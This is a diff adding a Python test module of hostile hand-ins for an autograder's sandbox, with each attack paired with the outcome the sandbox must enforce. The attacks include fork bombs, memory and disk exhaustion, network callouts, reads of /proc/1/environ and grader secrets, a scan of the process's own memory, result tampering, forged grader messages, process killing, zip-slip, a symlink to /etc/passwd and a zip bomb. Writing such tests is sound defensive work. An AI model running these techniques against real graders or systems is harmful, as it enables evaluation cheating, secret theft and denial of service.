@@ -1,0 +1,169 @@
+"""Hostile and broken hand-ins: each tries one thing the sandbox must stop, with the outcome it must get.
+
+Code attacks are injected at the start of `single_step` (the baseline) of the reference, so every
+other part of the hand-in stays right and must still pass. Zip attacks are built byte by byte.
+`Attack.status` is what the baseline must get; `None` means the attack must fail silently and the
+baseline pass. Paths the attacks aim at (the reference, the rubric, the grader's output) and the
+port of a listener that must hear nothing are filled in at test time.
+"""
+
+import io
+import stat
+import textwrap
+import zipfile
+from dataclasses import dataclass
+
+from tests.corpus import REFERENCE, UTILS, Files, skeleton, zip_bytes
+
+ANCHOR = "    device = get_device() if device is None else device\n    # Same seed, same initial weight"
+MARKER = "a4-escape-marker"
+
+
+@dataclass
+class Attack:
+    snippet: str = ""          # code injected at the start of single_step, {port} {reference} {rubric} {out} filled in
+    status: tuple = ("passed",)   # statuses the baseline may get
+    words: str = ""            # words its message must contain
+    base: str = "reference"    # "reference", or "three_parts" (tensor parallel left TODO)
+    needs_full_sandbox: bool = False
+
+
+ATTACKS = {
+    # 1. hang the batch
+    "infinite_loop": Attack("while True:\n    pass\n", ("timeout",), "did not finish"),
+    "sleep_ignoring_sigterm": Attack(
+        "import signal, time\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\ntime.sleep(10 ** 6)\n",
+        ("timeout",), "did not finish"),
+    "daemon_that_escapes_its_group": Attack(
+        "import os, time\nif dist.get_rank() == 0:\n    pid = os.fork()\n    if pid == 0:\n        os.setsid()\n"
+        "        if os.fork() == 0:\n            time.sleep(10 ** 6)\n        os._exit(0)\n    os.waitpid(pid, 0)\n"),
+    # 2. exhaust the machine
+    "fork_bomb": Attack("import os\nwhile True:\n    os.fork()\n", ("crashed", "timeout")),
+    "huge_tensor": Attack("torch.ones(1 << 30, dtype=torch.float32)\n", ("oom",), "out of memory"),
+    "huge_list": Attack("hog = [0] * (10 ** 10)\n", ("oom",), "out of memory"),
+    "disk_filler": Attack(
+        "with open('a4-fill.bin', 'wb') as f:\n    for _ in range(4096):\n        f.write(bytes(1 << 20))\n",
+        ("crashed",), "OSError"),
+    "thread_flood": Attack(
+        "import threading, time\nfor _ in range(2000):\n"
+        "    threading.Thread(target=time.sleep, args=(30,), daemon=True).start()\n", ("crashed",), "thread"),
+    # 3. reach the network
+    "network": Attack(
+        "import socket\nfor address in (('127.0.0.1', {port}), ('1.1.1.1', 80), (socket.gethostname(), {port})):\n"
+        "    try:\n        socket.create_connection(address, timeout=1).sendall(b'ESCAPED')\n"
+        "    except OSError:\n        pass\n"),
+    # 4. read what it must not
+    "read_secrets": Attack(
+        "import glob, os\nleaks = []\n"
+        "for pattern in ({reference!r}, {rubric!r}, {out!r} + '/*/grading.json', '/tmp/a4-grade-*/**/assignment4.py',\n"
+        "                '/proc/1/environ', '/root/*', os.path.dirname({rubric!r}) + '/*.py'):\n"
+        "    for path in glob.glob(pattern, recursive=True):\n"
+        "        try:\n            leaks.append((path, open(path, 'rb').read(64)))\n"
+        "        except OSError:\n            pass\n"
+        "if leaks:\n    raise RuntimeError(f'LEAK {{leaks[:3]}}')\n"),
+    # Reads every readable mapping of its own process for the hidden checks' names, the rubric's
+    # keys and the reference's markers (spelt backwards here, so that only the needles themselves,
+    # once each, are in memory when nothing leaked).
+    "scan_own_memory": Attack(
+        "import ctypes\n"
+        "needles = [n[::-1].encode() for n in ('sknar-owt', 'sezis-ddo', 'knar-elgnis', 'NOITULOS NIGEB',\n"
+        "                                      'nrettap_di_tneduts', 'YLNO ECNEREFER')]\n"
+        "counts = dict.fromkeys(needles, 0)\n"
+        "for line in open('/proc/self/maps').read().splitlines():\n"
+        "    fields = line.split()\n"
+        "    start, end = (int(x, 16) for x in fields[0].split('-'))\n"
+        "    anonymous = len(fields) < 6 or fields[5] in ('[heap]', '[stack]')\n"
+        "    if not fields[1].startswith('r') or not anonymous or end - start > 1 << 26:\n"
+        "        continue\n"
+        "    chunk = ctypes.string_at(start, end - start)\n"
+        "    for n in needles:\n        counts[n] += chunk.count(n)\n"
+        "if any(c > 1 for c in counts.values()):\n"
+        "    raise RuntimeError(f'LEAK in memory: {{counts}}')\n"),
+    # 5. change results
+    "write_results": Attack(
+        "for path in ({out!r} + '/reference/results.json', {out!r} + '/grades.csv',\n"
+        "             {out!r} + '/write_results/grading.json', {rubric!r}):\n"
+        "    try:\n        open(path, 'w').write('TAMPERED')\n    except OSError:\n        pass\n"),
+    "top_level_command": Attack(),  # see build(): a module-level statement that runs a shell command
+    # 6. kill or confuse the grader
+    # Its parent is the namespace's init (signals from inside are ignored) and, as root, of another
+    # user (the kill is refused): either way only its own part can suffer.
+    "kill_parent": Attack("import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n", ("passed", "crashed")),
+    "kill_everything_it_can": Attack("import os, signal\nos.kill(-1, signal.SIGKILL)\n",
+                                     ("crashed",), "", needs_full_sandbox=True),
+    "close_stdout_and_stderr": Attack("import os\nos.close(1)\nos.close(2)\n"),
+    "flood_output": Attack(
+        "import sys\ntry:\n    for _ in range(20000):\n        sys.stdout.write('x' * 10000 + '\\n')\n"
+        "except OSError:\n    pass\n"),
+    "imitate_log_and_protocol": Attack(
+        "import struct, sys\nfor r in range(4):\n"
+        "    print(f'[FullColumnParallel][Rank {{r}}] Tensors match: True | Max diff: 0.0 | Mean diff: 0.0')\n"
+        "body = b'{{\"type\":\"result\",\"part\":\"tensor_parallel\",\"status\":\"ok\"}}'\n"
+        "sys.stdout.buffer.write(struct.pack('>I', len(body)) + body)\nsys.stdout.flush()\n",
+        base="three_parts"),
+    "forge_result_pipe": Attack(
+        "import json, os, struct\nbody = json.dumps({{'type': 'result', 'part': 'baseline', 'status': 'ok', "
+        "'weight': {{'shape': [1], 'dtype': 'float32', 'data': 'AAAAAAAAAAA='}}}}).encode()\n"
+        "os.write(3, struct.pack('>I', len(body)) + body)\n", ("crashed",), "out of order"),
+}
+
+TOP_LEVEL = f"_ = __import__('os').system('touch /tmp/{MARKER}-shell /dev/shm/{MARKER}-shell')\n"
+
+
+def inject(code: str, snippet: str) -> str:
+    assert code.count(ANCHOR) == 1, "the reference's single_step no longer starts as expected"
+    head, tail = ANCHOR.split("\n", 1)
+    return code.replace(ANCHOR, f"{head}\n{textwrap.indent(snippet, '    ')}{tail}")
+
+
+def build(name: str, values: dict, log: str, err: str) -> Files:
+    attack = ATTACKS[name]
+    base = (REFERENCE.read_text() if attack.base == "reference"
+            else skeleton(filled=["baseline", "grad_accumulation", "data_parallel"]))
+    code = inject(base, attack.snippet.format(**values)) if attack.snippet else base
+    if name == "top_level_command":
+        code = code.replace("\nimport torch\n", "\nimport torch\n" + TOP_LEVEL, 1)
+    return Files(code=code, log=log, err=err)
+
+
+def _zip(members) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
+        for info, data in members:
+            z.writestr(info, data)
+    return buffer.getvalue()
+
+
+def zip_attacks() -> dict:
+    """Hand-in zips that try to escape through the zip itself; each must be refused as invalid."""
+    code = REFERENCE.read_text()
+    basics = [("assignment4.py", code), ("utils.py", UTILS.read_text())]
+    link = zipfile.ZipInfo("utils.py")
+    link.external_attr = (stat.S_IFLNK | 0o777) << 16
+    bomb = io.BytesIO()
+    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as z:
+        z.writestr("assignment4.py", code)
+        with z.open("assignment4-1.log", "w", force_zip64=True) as f:
+            for _ in range(1024):
+                f.write(bytes(1 << 20))   # 1 GB of zeros, about 1 MB zipped
+    many = [("assignment4.py", code)] + [(f"junk/{i}.txt", "") for i in range(10000)]
+    non_utf8 = _zip(basics + [("name-" + "x" * 8 + ".txt", "")]).replace(b"name-xxxxxxxx", b"name-\xff\xfe\xfd\xfc\xfb\xfa\xf9\xf8")
+    return {
+        "zip_slip": (_zip(basics + [(f"../../{MARKER}-slip.py", "x")]), "points outside the hand-in"),
+        "zip_absolute_path": (_zip(basics + [(f"/tmp/{MARKER}-abs.py", "x")]), "absolute path"),
+        "zip_symlink": (_zip([("assignment4.py", code), (link, "/etc/passwd")]), "symbolic link"),
+        "zip_bomb": (bomb.getvalue(), "limit"),
+        "zip_10000_members": (_zip(many), "10001 members"),
+        "zip_name_not_utf8": (non_utf8, "not valid UTF-8"),
+    }
+
+
+def all_handins(values: dict, log: str, err: str, full_sandbox: bool) -> dict:
+    """name -> zip bytes, for every attack that applies here, plus the reference itself."""
+    handins = {"reference": zip_bytes(Files(code=REFERENCE.read_text(), log=log, err=err))}
+    for name, attack in ATTACKS.items():
+        if attack.needs_full_sandbox and not full_sandbox:
+            continue
+        handins[name] = zip_bytes(build(name, values, log, err))
+    handins.update({name: data for name, (data, _) in zip_attacks().items()})
+    return handins
